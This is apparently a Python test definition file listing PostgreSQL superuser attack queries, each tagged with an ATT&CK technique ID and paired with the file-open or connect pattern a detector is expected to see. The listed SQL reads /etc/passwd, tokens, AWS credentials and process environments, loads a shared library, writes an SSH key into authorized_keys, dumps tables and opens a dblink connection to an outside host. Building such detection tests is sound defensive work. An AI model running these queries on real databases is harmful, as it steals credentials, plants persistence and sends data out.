"""What SQL of a superuser makes of PostgreSQL."""

from attacks.inside import inside
from attacks.places import HOME, TOKEN
from node import OUTSIDE

ATTACKS = [
    inside(
        "T1005", "the database reads the accounts", "select pg_read_file('/etc/passwd')", ("open", r"^/etc/passwd$")
    ),
    inside(
        "T1528",
        "the database reads the service account's token",
        f"select pg_read_file('{TOKEN}')",
        ("open", r"/token$"),
    ),
    inside(
        "T1552.001",
        "the database reads a cloud credential",
        f"select pg_read_file('{HOME}/.aws/credentials')",
        ("open", r"/\.aws/credentials$"),
    ),
    inside(
        "T1003.007",
        "the database reads its own environment",
        "select length(pg_read_binary_file('/proc/self/environ'))",
        ("open", r"/environ$"),
    ),
    inside(
        "T1505.001",
        "a function of a library that came along",
        "select lo_from_bytea(4242, pg_read_binary_file('/tmp/lib.so'));"
        "select lo_export(4242, '/tmp/udf.so'); do $$ begin load '/tmp/udf.so'; exception when others then null; end $$",
        ("open", r"^/tmp/udf\.so$"),
    ),
    inside(
        "T1098.004",
        "a key that may log in, by COPY",
        "copy (select 'ssh-ed25519 AAAA x') to '/var/lib/postgresql/authorized_keys'",
        ("open", r"/authorized_keys$"),
    ),
    inside("T1074.001", "the database lays data down", "copy pg_class to '/tmp/.dump'", ("open", r"^/tmp/\.dump$")),
    inside(
        "T1041",
        "data leave through a foreign connection",
        "create extension if not exists dblink; do $$ begin perform dblink_connect('x', 'host="
        + OUTSIDE
        + " port=443 user=x password=x connect_timeout=2'); exception when others then null; end $$",
        ("connect", r":443$"),
    ),
    inside("T1083", "the database lists directories", "select pg_ls_dir('/home/deploy')", ("open", r"^/home/deploy$")),
]
